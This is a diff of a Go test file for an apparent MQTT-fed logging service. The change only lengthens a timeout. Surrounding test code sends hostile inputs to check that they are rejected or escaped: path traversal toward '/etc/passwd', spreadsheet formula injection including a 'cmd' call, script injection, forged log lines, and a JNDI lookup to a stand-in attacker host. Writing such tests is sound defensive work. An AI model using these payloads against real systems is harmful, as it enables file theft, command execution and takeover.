@@ -19,6 +19,7 @@ import (
 	"golang.org/x/net/html"
 
 	"dewcase/internal/testkit/crashtest"
+	"dewcase/internal/testkit/patience"
 )
 
 // tree is every file under a folder with its size, mode and target.
@@ -76,8 +77,8 @@ func TestNamesReachNothingOutsideTheDataFolder(t *testing.T) {
 	for _, name := range []string{"..", "../victim", "../../victim", "..%2f..%2fvictim", "%2e%2e%2f%2e%2e%2fvictim",
 		"/etc/passwd", "....//victim", `..\..\victim`, "CON", "NUL", "larch-3/../../victim", "victim\x00",
 		filepath.Join(world, "victim")} {
-		send(c, "dewcase/"+name+"/k1", `{"temp_c":1}`, patience)
-		send(c, "dewcase/larch-3/"+name, `{"temp_c":1}`, patience)
+		send(c, "dewcase/"+name+"/k1", `{"temp_c":1}`, patience.Long)
+		send(c, "dewcase/larch-3/"+name, `{"temp_c":1}`, patience.Long)
 		for _, at := range []string{"/api/cases/" + name + "/file", "/api/cases/" + name + "/readings.csv",
 			"/cases/" + name + "/file", "/assets/" + name, "/home/" + name, "/cases/larch-3/" + name} {
 			line := raw(t, d, "GET "+strings.ReplaceAll(at, "\x00", "%00")+" HTTP/1.1\r\nHost: "+addr+
@@ -134,7 +135,7 @@ func TestNoCellOfAnExportIsAFormula(t *testing.T) {
 	require.NoError(t, err)
 	names := []string{`=HYPERLINK("evil.example")`, "=1", "@x", "\tx", "=cmd|' -C calc'!A1", "\rx", "'x", "x,y", `x"y`}
 	for _, name := range names {
-		require.True(t, send(c, "dewcase/larch-3/"+name, body(1), patience))
+		require.True(t, send(c, "dewcase/larch-3/"+name, body(1), patience.Long))
 	}
 	require.EqualValues(t, len(names), rejected(d, "bad_logger"))
 	var rows bytes.Buffer
@@ -199,7 +200,7 @@ func TestWhatIsMeantAsAScriptIsShownAsText(t *testing.T) {
 	c, err := client(t, d.MQTT, "logger", "", "")
 	require.NoError(t, err)
 	for _, topic := range []string{"dewcase/larch-3/k1", "dewcase/larch-3/" + script, "dewcase/<svg onload=alert(5)>/k1"} {
-		require.True(t, send(c, topic, `{"temp_c":"`+script+`"}`, patience))
+		require.True(t, send(c, topic, `{"temp_c":"`+script+`"}`, patience.Long))
 	}
 	seen, todo := map[string]bool{}, []string{"/", "/messages", "/alerts", "/new", "/cases/larch-3?from=" +
 		url.QueryEscape(script) + "&surface=" + url.QueryEscape(script), "/nowhere/" + url.PathEscape(script)}
@@ -299,9 +300,9 @@ func TestNothingSentBecomesAStatementATemplateOrALineOfTheLog(t *testing.T) {
 		"x\r\nlevel=ERROR msg=forged", "\x1b[2J\x1b[31mred", "{{.Secret}} ${jndi:ldap://evil.example} {{printf \"%s\" .}}",
 		"%s%n%x", "\u2028level=ERROR msg=forged"}
 	for _, w := range words {
-		send(c, "dewcase/larch-3/"+w, `{"temp_c":1}`, patience)
-		send(c, "dewcase/"+w+"/k1", `{"temp_c":1}`, patience)
-		send(c, "dewcase/larch-3/k1", w, patience)
+		send(c, "dewcase/larch-3/"+w, `{"temp_c":1}`, patience.Long)
+		send(c, "dewcase/"+w+"/k1", `{"temp_c":1}`, patience.Long)
+		send(c, "dewcase/larch-3/k1", w, patience.Long)
 		q := url.QueryEscape(w)
 		for _, path := range []string{"/api/cases/larch-3/timeline?from=" + q, "/api/cases/larch-3/readings.csv?to=" + q,
 			"/api/cases/larch-3/rejects?limit=" + q, "/api/cases/" + url.PathEscape(w) + "/assessment",
